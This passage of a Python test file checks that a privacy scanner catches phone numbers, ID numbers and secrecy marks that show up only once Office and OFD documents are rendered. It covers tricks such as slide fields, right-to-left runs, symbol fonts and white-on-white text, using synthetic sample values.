                               '<Default Extension="xml" ContentType="application/xml"/></Types>',
        "ppt/presentation.xml": f'<p:presentation {_P} firstSlideNum="5678"/>',
        "ppt/slides/slide1.xml": slide,
    })
    return office_zip({"通讯录.pptx": presentation})


def _a_runs(*texts: str) -> str:
    return "".join(f'<a:r><a:rPr lang="zh-CN"/><a:t>{text}</a:t></a:r>' for text in texts)


_SLIDE_NUMBER = '<a:fld id="{B6F15528-21DE-4FAA-801E-634DDDAF4B2B}" type="slidenum"><a:rPr lang="zh-CN"/><a:t>‹#›</a:t></a:fld>'


@pytest.mark.parametrize("paragraph", [
    f"<a:p>{_a_runs('联系电话1391234')}{_SLIDE_NUMBER}</a:p>",
    f'<a:p>{_a_runs("联系电话139")}<a:fld id="{{0}}" type="datetime1"><a:t>2024/5/1</a:t></a:fld>{_a_runs("5678")}</a:p>',
    f'<a:p>{_a_runs("联系电话139")}<a:fld id="{{0}}" type="anything"/></a:p>',
    '<a:p><a:pPr marL="0" indent="0"><a:buAutoNum type="arabicPlain" startAt="139"/></a:pPr>' + _a_runs("12345678") + "</a:p>",
], ids=["slide-number", "date", "empty-field", "auto-number"])
def test_a_slides_field_or_auto_number_beside_digits_is_named_for_the_reviewer(site, paragraph):
    """A slide number (`a:fld type="slidenum"`, its stored text ‹#›), a date or any DrawingML field is drawn as the slide
    is, and an auto-number (`a:buAutoNum`) before its paragraph: in a presentation numbered from 5678,
    `联系电话1391234{slidenum}` shows 13912345678 on its first slide; `139` numbered before 12345678 too (rt43)."""
    site.attach("a.zip", _zipped_pptx(paragraph))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "第 1 段" in problem.message and "显示时才计算的域紧挨着数字" in problem.message


def test_a_slide_number_among_words_and_a_number_apart_from_its_text_are_let_be(site):
    paragraphs = (f"<a:p>{_a_runs('第 ')}{_SLIDE_NUMBER}{_a_runs(' 页')}</a:p>"
                  '<a:p><a:pPr><a:buAutoNum type="arabicPeriod" startAt="139"/></a:pPr>' + _a_runs("12345678") + "</a:p>")
    site.attach("a.zip", _zipped_pptx(paragraphs))
    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
    assert site.problems(privacy.NOT_SCANNED.code) == []


def _presentation(paragraphs: str, shape_levels: str = "", master_levels: str = "") -> bytes:
    """A presentation of one slide whose text box holds `paragraphs`, its list style's levels `shape_levels`, and
    a slide master whose text styles' levels are `master_levels`."""
    slide = (f"<p:sld {_P} {_A}><p:cSld><p:spTree><p:sp><p:txBody><a:bodyPr/><a:lstStyle>{shape_levels}</a:lstStyle>"
             f"{paragraphs}</p:txBody></p:sp></p:spTree></p:cSld></p:sld>")
    parts = {"[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                                    '<Default Extension="xml" ContentType="application/xml"/></Types>',
             "ppt/presentation.xml": f"<p:presentation {_P}/>", "ppt/slides/slide1.xml": slide,
             "ppt/theme/theme1.xml": _THEME}  # its minor font Wingdings
    if master_levels:
        parts["ppt/slideMasters/slideMaster1.xml"] = (
            f"<p:sldMaster {_P} {_A}><p:cSld><p:spTree/></p:cSld><p:txStyles><p:bodyStyle>{master_levels}</p:bodyStyle>"
            "</p:txStyles></p:sldMaster>")
    return office_zip(parts)


_INHERITED = {
    "rtl": ('<a:lvl1pPr rtl="1"/>', f"<a:p>{_a_runs('5678 1234 139')}</a:p>"),
    "auto-number": ('<a:lvl1pPr><a:buAutoNum type="arabicPlain" startAt="139"/></a:lvl1pPr>', f"<a:p>{_a_runs('12345678')}</a:p>"),
    "symbol-font": ('<a:lvl1pPr><a:defRPr><a:latin typeface="Wingdings"/></a:defRPr></a:lvl1pPr>',
                    f"<a:p>{_a_runs('本项目属机密', '«', '请勿外传')}</a:p>"),
    "paragraph-font": ("", '<a:p><a:pPr><a:defRPr><a:latin typeface="Wingdings"/></a:defRPr></a:pPr>'  # as a chart's text
                           f"{_a_runs('本项目属机密', '«', '请勿外传')}</a:p>"),
    "theme-font": ('<a:lvl1pPr><a:defRPr><a:latin typeface="+mn-lt"/></a:defRPr></a:lvl1pPr>',
                   f"<a:p>{_a_runs('本项目属机密', '«', '请勿外传')}</a:p>"),
}


@pytest.mark.parametrize("what", list(_INHERITED))
@pytest.mark.parametrize("where", ["shape", "master"])
def test_what_a_slide_paragraph_inherits_from_its_list_styles_is_drawn(what, where):
    """A direction, an auto-number or a symbol font (or the theme's, `+mn-lt`) a slide's paragraph takes from its
    shape's list style or its master's text styles (`a:lvl1pPr`) is drawn all the same: only the paragraph's own
    `a:pPr` was followed, so `5678 1234 139` right to left, 12345678 numbered from 139 and 机密« in Wingdings passed."""
    from gongkai.checks import marks
    from gongkai.reader_text import fold
    from gongkai.readers import core

    level, paragraph = _INHERITED[what]
    reading = core.Reading()
    office.read_office(_presentation(paragraph, *((level, "") if where == "shape" else ("", level))), "", reading, 0)
    texts = [fold(line) for segment in reading.segments for line in segment.text.split("\n")]
    if what == "auto-number":
        assert [unread for unread in reading.unread if unread.reason == fields.COMPUTED_BESIDE_DIGITS]
    elif what == "rtl":
        assert any(list(pii.find(text, dt.date(2026, 1, 1))) for text in texts)
    else:
        assert any(list(marks.find(text)) for text in texts)


def test_a_right_to_left_slide_paragraph_is_read_as_drawn_and_a_left_to_right_one_as_stored(site):
    """`a:pPr rtl="1"` is DrawingML's `w:bidi`: `5678 1234 139` is drawn 139 1234 5678 (rt43)."""
    rtl = f'<a:p><a:pPr rtl="1"/>{_a_runs("5678 1234 139")}</a:p>'
    mobiles, _ = findings(site, "a.zip", _zipped_pptx(rtl + f'<a:p><a:pPr rtl="0"/>{_a_runs("5678 1234 137")}</a:p>'))
    assert len(mobiles) == 1 and "第 1 段（按显示的样子）" in mobiles[0].message


def test_a_cell_drawn_right_to_left_is_read_as_drawn(site):
    """A cell whose style reads right to left (`alignment readingOrder="2"`) on a left-to-right sheet draws
    `5678 1234 139` as 139 1234 5678; a cell of the default order is read as stored (rt43)."""
    styles = '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="0" applyAlignment="1"><alignment readingOrder="2"/></xf></cellXfs>'
    rows = ('<row r="1"><c r="A1" s="1" t="inlineStr"><is><t>5678 1234 139</t></is></c></row>'
            '<row r="2"><c r="A2" s="0" t="inlineStr"><is><t>5678 1234 137</t></is></c></row>')
    mobiles, _ = findings(site, "a.xlsx", _xlsx_raw(rows, styles=styles))
    assert len(mobiles) == 1 and "工作表“名单”第 1 行（按显示的样子）" in mobiles[0].message


_C = 'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'


def _docx_with_chart(labels: str, cache_code: str = "General", axis: str = "General") -> bytes:
    """A document whose chart has one series of one value, 12345678: its data labels' number format `labels` (none
    when empty), its cache's `cache_code`, its value axis's `axis`."""
    dlbls = f'<c:dLbls><c:numFmt formatCode="{labels}" sourceLinked="0"/><c:showVal val="1"/></c:dLbls>' if labels else ""
    chart = (f"<c:chartSpace {_C}><c:chart><c:plotArea><c:barChart><c:ser><c:idx val=\"0\"/><c:order val=\"0\"/>{dlbls}"
             f'<c:val><c:numRef><c:f>Sheet1!$B$2</c:f><c:numCache><c:formatCode>{cache_code}</c:formatCode>'
             '<c:ptCount val="1"/><c:pt idx="0"><c:v>12345678</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser>'
             f'</c:barChart><c:valAx><c:numFmt formatCode="{axis}" sourceLinked="1"/></c:valAx></c:plotArea></c:chart>'
             "</c:chartSpace>")
    with zipfile.ZipFile(io.BytesIO(docx_with("值班电话见下图", "无"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    parts["word/charts/chart1.xml"] = chart
    return office_zip(parts)


@pytest.mark.parametrize("labels, cache_code", [("&quot;139&quot;0", "General"), ("", "&quot;139&quot;0"),
                                                ("\\1\\3\\90", "General")])
def test_a_charts_value_is_read_as_its_number_format_shows_it(site, labels, cache_code):
    """A data label's number format (`c:dLbls/c:numFmt`), or the cache's own (`c:formatCode`, used where a label is
    linked to its source), writes into the value it labels: 12345678 under `"139"0` shows 13912345678 (rt43)."""
    mobiles, _ = findings(site, "a.docx", _docx_with_chart(labels, cache_code))
    assert [p.message for p in mobiles if pii.mask("13912345678") in p.message and "图表数据标签和坐标轴" in p.message]
    assert site.problems(privacy.NOT_SCANNED.code) == []


@pytest.mark.parametrize("labels, axis", [("&quot;139&quot;0.0E+00", "General"), ("0", "&quot;139&quot;0")])
def test_a_chart_format_not_worked_out_that_writes_digits_is_named_for_the_reviewer(site, labels, axis):
    """An exponent is not worked out, and a value axis labels the ticks the program works out: a format that writes
    digits there is named."""
    site.attach("a.docx", _docx_with_chart(labels, axis=axis))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "图表" in problem.message and "图表的数字格式带有数字或日期" in problem.message


def test_a_chart_of_ordinary_formats_is_let_be(site):
    mobiles, _ = findings(site, "a.docx", _docx_with_chart("0.0", "#,##0", axis="0%"))
    assert mobiles == [] and site.problems(privacy.NOT_SCANNED.code) == []


def _docx_numbered(paragraphs: str, numbering: str) -> bytes:
    """`_docx_with_xml(paragraphs)` with `numbering` (the inside of w:numbering) as its list numbering."""
    with zipfile.ZipFile(io.BytesIO(_docx_with_xml(paragraphs))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    parts["word/numbering.xml"] = f"<w:numbering {_W}>{numbering}</w:numbering>"
    return office_zip(parts)


def _list_level(suffix: str) -> str:
    return f'<w:lvl w:ilvl="0"><w:start w:val="139"/><w:numFmt w:val="decimal"/>{suffix}<w:lvlText w:val="%1"/></w:lvl>'


def _listed(number: str, text: str) -> str:
    return f'<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="{number}"/></w:numPr></w:pPr>{_text(text)}</w:p>'


@pytest.mark.parametrize("suffix", ['<w:suff w:val="nothing"/>', '<w:suff w:val="space"/>'])
def test_a_list_number_drawn_touching_a_paragraph_that_begins_with_a_digit_is_named(site, suffix):
    """A level starting at 139 whose number is followed by nothing (or a space) draws 13912345678 (139 12345678) before
    the paragraph 12345678: named, numbered directly or by its paragraph style (python-docx's List Number is list 5);
    a number followed by a tab (the default, or a list's own level over its abstract one's), or a paragraph that does
    not begin with a digit, is let be."""
    numbering = (f'<w:abstractNum w:abstractNumId="0">{_list_level(suffix)}</w:abstractNum>'
                 f'<w:abstractNum w:abstractNumId="1">{_list_level("")}</w:abstractNum>'
                 '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="5"><w:abstractNumId w:val="0"/></w:num>'
                 '<w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num>'
                 '<w:num w:numId="3"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="0">'
                 f'{_list_level(chr(10))}</w:lvlOverride></w:num>')
    body = (_listed("1", "12345678") + '<w:p><w:pPr><w:pStyle w:val="ListNumber"/></w:pPr><w:r><w:t> 12345678</w:t></w:r></w:p>'
            + _listed("1", "第一项") + _listed("2", "12345678") + _listed("3", "12345678"))
    site.attach("a.docx", _docx_numbered(body, numbering))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    named_ = sorted(re.findall(r"正文第 \d+ 段", p.message)[0] for p in site.problems(privacy.NOT_SCANNED.code)
                    if "编号之后" in p.message)
    assert named_ == ["正文第 3 段", "正文第 4 段"]


def _ruby(guide: str, base: str) -> str:
    return ('<w:r><w:ruby><w:rubyPr><w:hps w:val="10"/><w:hpsRaise w:val="22"/><w:hpsBaseText w:val="21"/></w:rubyPr>'
            f'<w:rt><w:r><w:rPr><w:sz w:val="10"/></w:rPr><w:t>{guide}</w:t></w:r></w:rt>'
            f'<w:rubyBase><w:r><w:t>{base}</w:t></w:r></w:rubyBase></w:ruby></w:r>')


def _text(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def test_a_rubys_guide_text_is_read_above_the_line_not_in_it(site):
    """A ruby's guide text (拼音指南) is drawn above its base: 联系电话139 + 注 over 1234 + 5678 shows 13912345678 on the
    line, and a number in the guide text is read apart from the line's digits (5 + 13912345678 over 甲 + 9); pinyin
    over words finds nothing."""
    body = ("<w:p>" + _text("联系电话139") + _ruby("注", "1234") + _text("5678") + "</w:p>"
            "<w:p>" + _text("编号5") + _ruby("13912345678", "甲") + _text("9") + "</w:p>"
            "<w:p>" + _ruby("zhāng", "张") + _ruby("sān", "三") + _text("，电话见附件") + "</w:p>")
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(body))
    assert sorted(re.findall(r"正文第 \d+ 段（按显示的样子）", p.message)[0] for p in mobiles) == [
        "正文第 3 段（按显示的样子）", "正文第 4 段（按显示的样子）"]


_VML_NS = 'xmlns:v="urn:schemas-microsoft-com:vml"'
_BOX = "<w:txbxContent><w:p><w:r><w:t>1391234</w:t></w:r></w:p></w:txbxContent>"


def _drawing(place: str) -> str:
    """A text box holding 1391234 drawn in the line (`wp:inline`) or floating (`wp:anchor`)."""
    return ('<w:r><w:drawing><wp:' + place + ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
            '<wp:extent cx="609600" cy="177800"/><wp:docPr id="5" name="Text Box 5"/>'
            '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
            '<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
            '<wps:wsp xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:cNvSpPr txBox="1"/>'
            f'<wps:txbx>{_BOX}</wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:{place}></w:drawing></w:r>')


def _vml(style: str, inside: str = f"<v:textbox>{_BOX}</v:textbox>") -> str:
    return f'<w:r><w:pict {_VML_NS}><v:shape id="s1" style="{style}width:48pt;height:14pt" stroked="f">{inside}</v:shape></w:pict></w:r>'


def _box_alternatives(choice: str, fallback: str) -> str:
    """Word's text box: a DrawingML choice and a VML fallback for older readers, in one run."""
    return ('<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
            f'<mc:Choice Requires="wps">{choice[5:-6]}</mc:Choice><mc:Fallback>{fallback[5:-6]}</mc:Fallback>'
            '</mc:AlternateContent></w:r>')


@pytest.mark.parametrize("inline, floating", [
    (_drawing("inline"), _drawing("anchor")),
    (_vml(""), _vml("position:absolute;margin-left:0;")),
    (_vml("", '<v:textpath string="1391234"/>'), _vml("position: ABSOLUTE;", '<v:textpath string="1391234"/>')),
    (_box_alternatives(_drawing("inline"), _vml("")), _box_alternatives(_drawing("anchor"), _vml("position:absolute;"))),
])
def test_the_text_of_a_shape_drawn_in_the_line_is_read_in_its_place(site, inline, floating):
    """A text box or WordArt drawn in the line like a character (DrawingML `wp:inline`, a VML shape not placed
    absolutely) shows 联系电话 + 1391234 + 5678 as 13912345678; a floating one does not join the line, and Word's
    choice and fallback of one box are read into the line once."""
    body = "<w:p>" + _text("联系电话") + inline + _text("5678") + "</w:p><w:p>" + _text("联系电话") + floating + _text("5678") + "</w:p>"
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(body))
    assert len(mobiles) == 1 and "（按显示的样子）" in mobiles[0].message and pii.mask("13912345678") in mobiles[0].message


def test_runs_a_bidirectional_override_draws_right_to_left_are_read_as_drawn(site):
    """`w:bdo rtl` draws 87654321931 as 13912345678, `w:dir rtl` (an embedding) 5678 1234 139 as 139 1234 5678, as
    U+202E and U+202B around them do; `w:bdo ltr`, and an embedding of one run of digits, draw them as stored."""
    def direction(tag: str, value: str, text: str) -> str:
        return f'<w:p>{_text("联系电话")}<w:{tag} w:val="{value}">{_text(text)}</w:{tag}></w:p>'

    body = (direction("bdo", "rtl", "87654321931") + direction("dir", "rtl", "5678 1234 139")
            + direction("bdo", "ltr", "87654321931") + direction("dir", "rtl", "87654321931"))
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(body))
    assert sorted(re.findall(r"正文第 \d+ 段（按显示的样子）", p.message)[0] for p in mobiles) == [
        "正文第 3 段（按显示的样子）", "正文第 4 段（按显示的样子）"]


# Word's 插入 → 符号 in Wingdings: ★ is stored as F0AB in w:sym, or as « (0xAB) in a run drawn in Wingdings.
_WINGDINGS_RUN = '<w:r><w:rPr><w:rFonts w:ascii="Wingdings" w:hAnsi="Wingdings"/></w:rPr><w:t>{}</w:t></w:r>'


@pytest.mark.parametrize("paragraph", [
    '<w:p><w:r><w:t>机密</w:t></w:r><w:r><w:sym w:font="Wingdings" w:char="F0AB"/></w:r></w:p>',
    '<w:p><w:r><w:t>绝密</w:t></w:r>' + _WINGDINGS_RUN.format("«") + '</w:p>',
    '<w:p><w:r><w:t>000123　机密</w:t></w:r><w:r><w:sym w:font="Wingdings 2" w:char="F0EA"/></w:r><w:r><w:t>1年</w:t></w:r></w:p>',
    '<w:p><w:r><w:t>机密</w:t></w:r><w:fldSimple w:instr=\' SYMBOL 171 \\f "Wingdings" \\s 14 \'>'
    + _WINGDINGS_RUN.format("«") + '</w:fldSimple></w:p>',
])
def test_a_star_drawn_from_a_symbol_font_is_read_as_drawn(site, paragraph):
    """Read as stored, Wingdings' ★ was « (or U+00AB from F0AB): 机密★ passed while Word, WPS and every viewer drew it."""
    _, marks = findings(site, "a.docx", _docx_with_xml(paragraph))
    assert marks


def _xlsx_of(shared: str, header: str = "") -> bytes:
    return office_zip({
        "[Content_Types].xml": _XLSX_TYPES, "_rels/.rels": _XLSX_RELS, "xl/_rels/workbook.xml.rels": _XLSX_WORKBOOK_RELS,
        "xl/workbook.xml": f'<workbook {_X_MAIN} {_X_REL}><sheets><sheet name="名单" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/sharedStrings.xml": f"<sst {_X_MAIN}><si>{shared}</si></sst>",
        "xl/worksheets/sheet1.xml": f'<worksheet {_X_MAIN}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
                                    f"</sheetData>{header}</worksheet>"})


@pytest.mark.parametrize("shared, header", [
    ('<r><t>秘密</t></r><r><rPr><rFont val="Wingdings"/><charset val="2"/></rPr><t>«</t></r>', ""),
    ("<t>名单</t>", '<headerFooter><oddHeader>&amp;L秘密&amp;"Wingdings,常规"«&amp;"宋体,常规"　X住建〔2021〕3号'
                    "&amp;R第&amp;P页</oddHeader></headerFooter>"),
])
def test_a_star_a_workbook_draws_in_a_symbol_font_is_read_as_drawn(site, shared, header):
    _, marks = findings(site, "a.xlsx", _xlsx_of(shared, header))
    assert marks


def test_a_symbol_fonts_check_mark_beside_words_and_a_guillemet_in_a_text_font_are_no_mark(site):
    """Wingdings ü is ✓ (prose beside it reports nothing); « in a text font stays «, a quotation mark."""
    paragraphs = ('<w:p><w:r><w:t>同意</w:t></w:r>' + _WINGDINGS_RUN.format("ü") + '<w:r><w:t>机密事项已移交</w:t></w:r></w:p>'
                  '<w:p><w:r><w:rPr><w:rFonts w:ascii="宋体" w:hAnsi="宋体"/></w:rPr><w:t>机密«</w:t></w:r></w:p>')
    from gongkai.readers.core import Reading

    reading = Reading()
    office.read_office(_docx_with_xml(paragraphs), "", reading, 0)
    text = "\n".join(segment.text for segment in reading.segments)
    assert "同意✓机密事项已移交" in text and "机密«" in text and "★" not in text
    _, marks = findings(site, "a.docx", _docx_with_xml(paragraphs))
    assert not marks


_WHITE = '<w:color w:val="FFFFFF"/>'


@pytest.mark.parametrize("body, styles, text", [
    # white on the white page, by the run's colour, in lower case, by the theme's background colour, by a style
    (_runs(("电话139", ""), ("隐", _WHITE), ("12345678", "")), "", "139 12345678"),
    (_runs(("110105", ""), ("x", '<w:color w:val="ffffff"/>'), ("198701201243", "")), "", "110105 198701201243"),
    (_runs(("电话139", ""), ("隐", '<w:color w:val="000000" w:themeColor="background1"/>'), ("12345678", "")), "",
     "139 12345678"),
    (_runs(("电话139", ""), ("隐", '<w:rStyle w:val="S"/>'), ("12345678", "")), _style("character", "S", _WHITE),
     "139 12345678"),
    # the text's colour is its highlight's or its shading's
    (_runs(("电话139", ""), ("隐", '<w:color w:val="FFFF00"/><w:highlight w:val="yellow"/>'), ("12345678", "")), "",
     "139 12345678"),
    (_runs(("电话139", ""), ("隐", '<w:color w:val="E0E0E0"/><w:shd w:val="clear" w:color="auto" w:fill="E0E0E0"/>'),
           ("12345678", "")), "", "139 12345678"),
    # the page's own colour
    ('<w:background w:color="FFFF00"/>' + _runs(("电话139", ""), ("隐", '<w:color w:val="FFFF00"/>'), ("12345678", "")), "",
     "139 12345678"),
    # a mark with a white letter between its characters
    (_runs(("本件机", ""), ("x", _WHITE), ("密★", "")), "", "机 密★"),
])
def test_text_drawn_in_the_colour_behind_it_is_read_as_the_gap_the_reader_sees(body, styles, text):
    """A run drawn in its background's colour (white on the white page, yellow on its yellow highlight) shows a blank:
    `139`, a white `隐`, `12345678` reads 139 12345678 on the page, and was read only as stored, 139隐12345678."""
    from gongkai.checks import marks
    from gongkai.reader_text import fold
    from gongkai.readers import core

    if body.startswith("<w:background"):
        document = f"<w:document {_W}>{body[:body.index('/>') + 2]}<w:body>{body[body.index('/>') + 2:]}</w:body></w:document>"
        data = office_zip({"word/document.xml": document, "word/styles.xml": f"<w:styles {_W}/>"})
    else:
        data = _styled_docx(body, styles)
    reading = core.Reading()
    office.read_office(data, "", reading, 0)
    shown = [fold(segment.text) for segment in reading.segments if segment.where.endswith(core.AS_SHOWN)]
    assert any(text in line for line in shown), shown
    assert any(list(marks.find(line)) for line in shown) if "密" in text else any(
        list(pii.find(line, dt.date(2026, 1, 1))) for line in shown)


def test_a_white_rich_text_run_in_a_cell_is_read_as_a_gap():
    from gongkai.readers import core

    runs = '<r><t>139</t></r><r><rPr><color rgb="FFFFFFFF"/></rPr><t>隐</t></r><r><t>12345678</t></r>'
    reading = core.Reading()
    office.read_office(_xlsx_raw(f'<row r="1"><c r="A1" t="inlineStr"><is>{runs}</is></c></row>'), "", reading, 0)
    shown = [segment.text for segment in reading.segments if segment.where.endswith(core.AS_SHOWN)]
    assert any(list(pii.find(line, dt.date(2026, 1, 1))) for line in shown), shown


@pytest.mark.parametrize("attribute", ['id="110105198701201243"', 'userId="13912345678"', 'w:rsidR="13912345678"'])
def test_a_number_in_an_attribute_named_as_an_id_is_read(attribute):
    """Attributes named as ids (`w:id`, `paraId`, `rsidR`) hold codes and are passed over; a custom XML part's
    `<申请人 id="110105198701201243"/>`, which anyone who unzips the downloaded file reads, passed with them."""
    from gongkai.readers import core

    reading = core.Reading()
    part = f'<?xml version="1.0"?><root xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><申请人 {attribute}/></root>'
    office.read_office(office_zip({"word/document.xml": f"<w:document {_W}><w:body/></w:document>", "customXml/item1.xml": part}),
                       "", reading, 0)
    assert any(list(pii.find(segment.text, dt.date(2026, 1, 1))) for segment in reading.segments), reading.segments


@pytest.mark.parametrize("paragraph_style, run_style, styles, defaults", [
    ("", '<w:rStyle w:val="S2"/>', _style("character", "S", '<w:sz w:val="2"/>') + _style("character", "S2", based="S"), ""),
    (_IN_STYLE, "", _style("paragraph", "P", '<w:sz w:val="2"/>') + _style("paragraph", "P2", based="P"), ""),
    ("", "", "", _defaults('<w:sz w:val="1"/>')),
    ("", '<w:w w:val="1"/>', "", ""),  # scaled to 1 % of its width: a hairline
])
def test_a_run_made_too_small_by_its_style_or_scale_is_read_without(paragraph_style, run_style, styles, defaults):
    """A 1-point size given by the run's character style, its paragraph's style or the document's defaults, or a
    horizontal scale of 1 %, draws `0000` between 电话139 and 12345678 as a dot: Word shows 电话13912345678. Only a
    size on the run itself was followed."""
    from gongkai.readers import core

    normal = '<w:sz w:val="24"/>'
    body = (f"<w:p>{paragraph_style}<w:r><w:rPr>{normal}</w:rPr><w:t>电话139</w:t></w:r>"
            f"<w:r><w:rPr>{run_style}</w:rPr><w:t>0000</w:t></w:r>"
            f"<w:r><w:rPr>{normal}</w:rPr><w:t>12345678</w:t></w:r></w:p>")
    reading = core.Reading()
    office.read_office(_styled_docx(body, styles, defaults), "", reading, 0)
    shown = [segment.text for segment in reading.segments if segment.where.endswith(core.AS_SHOWN)]
    assert any(list(pii.find(line, dt.date(2026, 1, 1))) for line in shown), shown


@pytest.mark.parametrize("attributes, inside", [
    ("", '<ofd:FillColor Value="255 255 255"/>'),
    ("", '<ofd:FillColor Value="0 0 0" Alpha="0"/>'),
    ("", '<ofd:FillColor ColorSpace="2" Value="0 0 0 0"/>'),
    (' Fill="false"', ""),
])
def test_an_ofd_glyph_painted_white_or_not_at_all_is_read_as_a_gap(attributes, inside):
    """`110105`, a white, transparent or unfilled `隐`, `198701201243` side by side: the page shows 110105 198701201243,
    which was read as laid out with the 隐 in it."""
    number = "110105198701201243"
    hidden = (f'<ofd:TextObject Boundary="32.7 20 5 6" Font="1" Size="4.2"{attributes}>{inside}'
              '<ofd:TextCode X="0" Y="4.5">隐</ofd:TextCode></ofd:TextObject>')
    lines = _ofd_lines_as_shown(_ofd(_glyph(number[:6], 20), hidden, _glyph(number[6:], 37)))
    assert any(list(pii.find(line, dt.date(2026, 1, 1))) for line in lines), lines


def test_a_shade_of_the_themes_background_colour_is_drawn_text():
    """Gray text is written as the theme's background colour shaded (`w:themeShade`): seen, so no gap is read there."""
    from gongkai.readers import core

    grey = '<w:color w:val="7F7F7F" w:themeColor="background1" w:themeShade="7F"/>'
    reading = core.Reading()
    office.read_office(_styled_docx(_runs(("电话", ""), ("（注）", grey), ("完", ""))), "", reading, 0)
    assert not [segment for segment in reading.segments if segment.where.endswith(core.AS_SHOWN)], reading.segments
